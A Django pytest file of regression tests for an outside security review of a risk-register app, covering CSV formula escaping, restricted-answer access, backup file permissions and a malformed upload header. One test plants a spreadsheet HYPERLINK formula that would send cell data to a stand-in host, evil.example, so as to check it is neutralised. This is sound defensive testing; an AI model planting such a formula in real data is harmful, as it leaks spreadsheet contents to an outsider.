"""Findings of the outside security review (one test per finding, each failing before its fix)."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from rounds import services as round_services
from tests.factories import make_risk

FORMULA_LEADS = ("=", "+", "-", "@")


# The review round's CSV: cells a spreadsheet would run as formulas ---------------------------

def test_round_csv_neutralises_formula_text(demo, client_for):
    today = timezone.localdate()
    review_round = round_services.open_round(meeting_date=today + timedelta(days=60), opens_on=today,
                                             deadline=today + timedelta(days=30), user=demo["author"])
    make_risk("31", user=demo["smt"], title='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    response = client_for("author").get(reverse("rounds:csv", args=[review_round.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(row for row in rows if row[0] == "31")
    assert not any(cell.startswith(FORMULA_LEADS) for cell in row), row
    assert row[1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"


# A panel member's own question, made restricted: its answer is restricted-pack content --------

def test_panel_member_does_not_read_the_answer_of_a_restricted_item(demo, client_for):
    from panel.services import raise_question, update_item
    from publications import publishing
    from tests.factories import september_paper

    publication = publishing.publish_paper(paper_id=september_paper().pk, user=demo["author"])
    item = raise_question(publication=publication, text="What is the MPS budget gap?", user=demo["panel"])
    update_item(item_id=item.pk, expected_version=item.version, user=demo["author"], reason="Restricted matter",
                restricted=True, status="answered", answer="SECRET-ANSWER: twelve million")
    client = client_for("panel")
    detail = client.get(reverse("panel:detail", args=[item.pk]))
    assert detail.status_code == 200 and "What is the MPS budget gap?" in detail.content.decode()
    assert "SECRET-ANSWER" not in detail.content.decode()
    for url in (reverse("panel:list"), reverse("published:version", args=[publication.paper_id, 1])):
        assert "SECRET-ANSWER" not in client.get(url).content.decode()
    # Those who may read the restricted pack still read it.
    assert "SECRET-ANSWER" in client_for("smt").get(reverse("panel:detail", args=[item.pk])).content.decode()


# The backup archive holds password hashes and restricted papers: readable by its owner only ------

def test_the_backup_archive_is_readable_by_its_owner_only(demo, tmp_path):
    import os
    import stat

    from django.core.management import call_command

    previous = os.umask(0o022)  # a usual server umask: new files world-readable
    try:
        call_command("backup", output=str(tmp_path / "register.zip"), stdout=io.StringIO())
    finally:
        os.umask(previous)
    mode = stat.S_IMODE(os.stat(tmp_path / "register.zip").st_mode)
    assert mode & 0o077 == 0, oct(mode)


# A malformed Content-Length on the workbook upload: a 400 page, not a 500 ----------------------

def test_a_malformed_content_length_on_the_upload_is_not_a_500(client_for):
    client = client_for("smt")
    client.raise_request_exception = False
    response = client.post(reverse("risks:import"), {}, CONTENT_LENGTH="12abc")
    assert response.status_code < 500
